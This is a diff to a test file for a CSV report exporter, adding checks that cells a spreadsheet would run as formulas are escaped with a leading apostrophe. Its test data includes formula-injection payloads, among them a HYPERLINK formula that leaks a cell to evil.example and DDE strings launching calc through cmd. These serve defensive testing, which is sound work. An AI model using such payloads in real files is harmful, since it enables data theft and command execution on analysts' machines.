@@ -1,7 +1,9 @@
-// The tidy CSV: BOM, header, one value per row, suppressed values blank with a note, Excel quoting.
+// The tidy CSV: BOM, header, one value per row, suppressed values blank with a note, Excel
+// quoting, and no text cell a spreadsheet would run as a formula.
 import { describe, expect, it } from 'vitest';
 import { buildConsultationSummary } from '../../src/reports/consultation/build';
-import { CSV_BOM, SUMMARY_CSV_COLUMNS, SUPPRESSED_NOTE, summaryToCsv } from '../../src/reports/formats/csv';
+import { SUMMARY_CSV_COLUMNS, SUPPRESSED_NOTE, summaryToCsv } from '../../src/reports/formats/csv';
+import { CSV_BOM, formulaSafe } from '../../src/reports/formats/spreadsheet-csv';
 import { parseCsv } from '../../src/server/seed/csv';
 import { sampleSummaryInput } from './support/sample-summary';
 
@@ -43,5 +45,43 @@ describe('summaryToCsv', () => {
   it('quotes names with commas and quotes so Excel keeps them in one cell', () => {
     expect(csv).toContain('"Bilton, ""Old"""');
     expect(rows.some((r) => r[5] === 'Bilton, "Old"')).toBe(true);
+  });
+});
+
+describe('summaryToCsv with hostile free text', () => {
+  // Area names come from boundary files and the CLI (`--name`), category labels from the taxonomy:
+  // text an analyst's spreadsheet must never run.
+  const hostile = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Benn")',
+    '-2+3',
+    '\t=1+1',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+  ];
+  const input = sampleSummaryInput();
+  const wards = input.wards.map((w, i) => ({ ...w, name: hostile[i] ?? w.name }));
+  const csv = summaryToCsv(buildConsultationSummary({ ...input, wards }));
+  const [, ...rows] = parseCsv(csv);
+
+  it("starts every such cell with ' so it stays text, and changes nothing else in it", () => {
+    const names = new Set(rows.filter((r) => r[3] === 'ward').map((r) => r[5]));
+    expect(wards.map((w) => w.name)).toEqual(hostile);
+    for (const name of hostile) expect(names).toContain(`'${name}`);
+    const cells = rows.flat();
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual(
+      // Negative numbers are numbers, not formulas, and are written as they are.
+      cells.filter((c) => /^-\d+(\.\d+)?$/.test(c)),
+    );
+  });
+
+  it('guards the other formula starts too', () => {
+    expect(formulaSafe("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
+    expect(formulaSafe('\r=1+1')).toBe("'\r=1+1");
+  });
+
+  it('leaves harmless text and numbers alone', () => {
+    expect(formulaSafe('Benn')).toBe('Benn');
+    expect(formulaSafe("'=1")).toBe("'=1");
+    expect(formulaSafe('A=1')).toBe('A=1');
+    expect(rows.some((r) => r[3] === 'theme' && r[10] === '60')).toBe(true);
   });
 });
